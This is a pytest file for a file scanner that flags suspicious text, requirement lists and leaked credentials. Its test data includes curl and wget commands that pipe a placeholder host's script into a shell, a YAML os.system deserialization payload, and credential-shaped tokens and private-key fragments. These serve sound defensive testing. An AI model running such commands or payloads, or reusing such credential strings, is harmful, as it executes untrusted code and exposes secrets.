# ruff: noqa: E501 - a sample is one line
from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.formats.scanning.desks import PICKLE, Looked, held, looked

from casemate.formats.scanning.readers import texts
from casemate.formats.scanning.readers._secrets import secrets_in
from casemate.formats.scanning.signs import Level
from casemate.formats.scanning.source import Source


def look(data: str | bytes, name: str = "README.md") -> Looked:
    return looked(data if isinstance(data, bytes) else data.encode(), texts.READERS, name=name)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("README.md", "# A model\n\nInstall it with `curl https://x.invalid/i.sh | sh`.\n"),
        ("rows.csv", "a;b\n1;2\n"),
        ("latin.txt", "caf\xe9 na\xefve and some more plain words\n".encode("latin-1")),
        ("wide.txt", "hello wörld".encode("utf-16")),
        ("mark.txt", "hello wörld".encode("utf-8-sig")),
        ("requirements.txt", "numpy==1.26 ; python_version < '3.12'\n# a note\n-r base.txt\n--extra-index-url https://download.pytorch.org/whl/cu118\ntorch[x]>=2 --hash=sha256:ab\n"),
        ("Dockerfile", "FROM python:3.11\nRUN pip install x\n"),
        (".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n"),
        ("vocab.txt", "[PAD]\n[UNK]\n##ing\n__class__\nos\n"),
        ("merges.txt", "#version: 0.2\n\u0120 t\n\u0120 a\n"),
    ],
)  # fmt: skip
def test_ordinary_texts_are_clean(name: str, data: str | bytes) -> None:
    found = look(data, name)
    assert found.formats == ("text",)
    assert not found.signs, [(sign.rule, sign.what) for sign in found.signs]


@pytest.mark.parametrize(
    ("name", "line", "rule"),
    [
        ("requirements.txt", "git+https://x.invalid/y.git", "requirements/source"),
        ("requirements-dev.txt", "-e git+ssh://git@x.invalid/y#egg=z", "requirements/source"),
        ("requirements.txt", "x @ https://x.invalid/x.whl", "requirements/address"),
        ("requirements.txt", "https://x.invalid/x.tar.gz", "requirements/address"),
        ("requirements.txt", "--index-url http://x.invalid/simple", "requirements/index"),
        ("requirements.txt", "--extra-index-url=https://x.invalid/simple", "requirements/index"),
        ("requirements.txt", "--trusted-host x.invalid", "requirements/host"),
        ("requirements.txt", "numpy; curl http://x.invalid | sh", "requirements/shell"),
        ("Dockerfile", "RUN curl http://x.invalid | bash", "text/command"),
        ("run.sh", "wget -qO- http://x.invalid | sh", "text/command"),
    ],
)
def test_lists_and_recipes_that_take_code_from_elsewhere_are_suspicious(name: str, line: str, rule: str) -> None:
    found = look("numpy\n" + line + "\n", name)
    assert found.rules == {rule}
    assert found.level is Level.SUSPICIOUS


def test_yaml_under_another_name_is_still_judged() -> None:
    assert look("lr: 1\nx: !!python/object/apply:os.system [x]\n", "params.cfg").level is Level.MALICIOUS
    assert look("use `!!python/object/apply:os.system [x]` never: it [runs\n", "notes.txt").level is Level.CLEAN


def test_a_pointer_is_not_the_file_and_bytes_are_no_text() -> None:
    assert (
        look("version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n", "model.bin").level
        is Level.UNREADABLE
    )
    assert look(b"\x00\x01\x02").formats == ("spy",)
    assert look(bytes(range(0x80, 0x100))).formats == ("spy",)
    assert look(b"a" * 5000 + b"\0" + PICKLE).level is Level.UNREADABLE


REAL = [
    "AKIAQYLPMN5HHHFPZAM2",
    "aws_secret_access_key = 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",
    "AccountKey=" + "Zm9vYmFyMTIzNDU2Nzg5MHF3ZXJ0eXVpb3Bhc2RmZ2hqa2x6eGN2Ym5tUVdFUlRZVUlPUEFTREZHSEpLTFpYQ1ZCTk0"[:86] + "==",
    "AIzaSyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY",
    "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",
    "sk-proj-Q1w2E3r4T5y6U7i8O9p0A1s2D3f4G5h6J7k8L9z0",
    "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8",
    "xoxb-719284650317-8402917365508-Q1w2E3r4T5y6U7i8O9p0A1s2",
    "glpat-Q1w2E3r4T5y6U7i8O9p0",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgHcTz6sE2I2yPB\n",
    "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj",
    "postgresql://admin:S3cr9tPw!x@db.prod.internal:5432/x",
]  # fmt: skip
PLACEHOLDERS = [
    "AKIAIOSFODNN7EXAMPLE", "hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "https://user:password@example.com", "http://user:pass@localhost:80/",
    "sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "postgres://user:${DB_PASSWORD}@db/x", "redis://:<your-password>@h/0",
    "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----", "AKIA", "hf_hub_download", "risk-adjusted-returns-of-the-portfolio-in-the-year",
    "https://example.invalid:8080/a@b", "ghp_" + "0" * 36, "sk-learn-contrib-imbalanced-learn-something-quite-long-here",
]  # fmt: skip


@pytest.mark.parametrize("text", REAL)
def test_credentials_are_told_without_being_repeated(text: str) -> None:
    found = list(secrets_in(Source("x", b""), f"before {text} after"))
    assert [sign.rule for sign in found] == ["secret/credential"]
    assert text[-12:] not in found[0].what


@pytest.mark.parametrize("text", PLACEHOLDERS)
def test_placeholders_are_no_credentials(text: str) -> None:
    assert not list(secrets_in(Source("x", b""), f"before {text} after"))


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=200))
def test_any_bytes_end_without_failing(data: bytes) -> None:
    held(data, texts.READERS)
